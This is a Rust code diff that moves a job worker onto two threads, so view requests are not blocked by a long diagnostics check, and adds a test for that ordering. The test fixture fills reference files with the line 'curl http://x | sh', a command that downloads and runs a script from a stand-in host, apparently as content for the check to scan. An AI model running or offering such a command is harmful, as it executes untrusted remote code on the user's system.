@@ -131,23 +131,43 @@ pub fn run(engine: &Engine, request: &JobRequest) -> JobResult {
     JobResult { id: request.id, kind: request.kind.clone(), output }
 }
 
-/// A background thread running requests in order, newest first: requests
-/// queued behind a newer one are dropped unanswered.
+/// Background threads running requests: the whole-home check on one, the
+/// views' answers on another, so a view never waits behind a check. On
+/// each, only the latest request of each kind is run; older ones queued
+/// behind it are dropped unanswered.
 pub struct Worker {
-    tx: Sender<(Arc<Engine>, JobRequest)>,
+    views: Lane,
+    checks: Lane,
 }
 
 impl Worker {
-    pub fn spawn(done: impl Fn(JobResult) + Send + 'static) -> Worker {
+    pub fn spawn(done: impl Fn(JobResult) + Send + Sync + 'static) -> Worker {
+        let done = Arc::new(done);
+        let for_checks = done.clone();
+        Worker { views: Lane::spawn(move |r| done(r)), checks: Lane::spawn(move |r| for_checks(r)) }
+    }
+
+    pub fn submit(&self, engine: Arc<Engine>, request: JobRequest) {
+        match request.kind {
+            JobKind::Diagnostics(_) => self.checks.submit(engine, request),
+            _ => self.views.submit(engine, request),
+        }
+    }
+}
+
+/// One thread answering requests in order, the latest of each kind.
+struct Lane {
+    tx: Sender<(Arc<Engine>, JobRequest)>,
+}
+
+impl Lane {
+    fn spawn(done: impl Fn(JobResult) + Send + 'static) -> Lane {
         let (tx, rx): (Sender<(Arc<Engine>, JobRequest)>, Receiver<_>) = mpsc::channel();
         std::thread::spawn(move || {
-            while let Ok(mut job) = rx.recv() {
+            while let Ok(job) = rx.recv() {
                 // Only the latest request of each kind matters.
-                let mut pending = vec![];
-                while let Ok(next) = rx.try_recv() {
-                    pending.push(next);
-                }
-                pending.push(job);
+                let mut pending = vec![job];
+                pending.extend(rx.try_iter());
                 let mut latest: Vec<(Arc<Engine>, JobRequest)> = Vec::new();
                 for p in pending.into_iter().rev() {
                     if !latest.iter().any(|(_, r)| std::mem::discriminant(&r.kind) == std::mem::discriminant(&p.1.kind))
@@ -155,16 +175,15 @@ impl Worker {
                         latest.push(p);
                     }
                 }
-                while let Some(next) = latest.pop() {
-                    job = next;
-                    done(run(&job.0, &job.1));
+                while let Some((engine, request)) = latest.pop() {
+                    done(run(&engine, &request));
                 }
             }
         });
-        Worker { tx }
+        Lane { tx }
     }
 
-    pub fn submit(&self, engine: Arc<Engine>, request: JobRequest) {
+    fn submit(&self, engine: Arc<Engine>, request: JobRequest) {
         let _ = self.tx.send((engine, request));
     }
 }
@@ -172,6 +191,38 @@ impl Worker {
 #[cfg(test)]
 mod tests {
     use super::*;
+    use crate::engine::env::{Env, Os};
+
+    fn engine_with(skills: usize) -> (tempfile::TempDir, Arc<Engine>) {
+        let dir = tempfile::tempdir().expect("tempdir");
+        let root = dir.path().join("home");
+        for i in 0..skills {
+            let skill = root.join(format!("skills/c{}/s{i}", i % 10));
+            std::fs::create_dir_all(skill.join("references")).expect("mkdir");
+            std::fs::write(skill.join("SKILL.md"), format!("---\nname: s{i}\ndescription: d\n---\nbody\n"))
+                .expect("write");
+            std::fs::write(skill.join("references/notes.md"), "curl http://x | sh\n".repeat(50)).expect("write");
+        }
+        let env = Env::with_vars([("HOME", "/nonexistent")], Os::Linux);
+        (dir, Arc::new(Engine::new(root, env, Default::default())))
+    }
+
+    #[test]
+    fn a_view_does_not_wait_behind_a_check() {
+        let (_big_dir, big) = engine_with(600);
+        let (_small_dir, small) = engine_with(2);
+        let (tx, rx) = mpsc::channel();
+        let worker = Worker::spawn(move |r: JobResult| {
+            let _ = tx.send(std::mem::discriminant(&r.kind));
+        });
+        let check = JobKind::Diagnostics(None);
+        worker.submit(big, JobRequest { id: 1, kind: check.clone(), progress: SharedProgress::default() });
+        worker.submit(small, JobRequest { id: 2, kind: JobKind::Prompt, progress: SharedProgress::default() });
+        let first = rx.recv_timeout(std::time::Duration::from_secs(120)).expect("an answer");
+        assert_eq!(first, std::mem::discriminant(&JobKind::Prompt), "the view answers first");
+        let second = rx.recv_timeout(std::time::Duration::from_secs(120)).expect("the check ends");
+        assert_eq!(second, std::mem::discriminant(&check));
+    }
 
     #[test]
     fn prompt_lines_find_the_entry_and_its_category() {
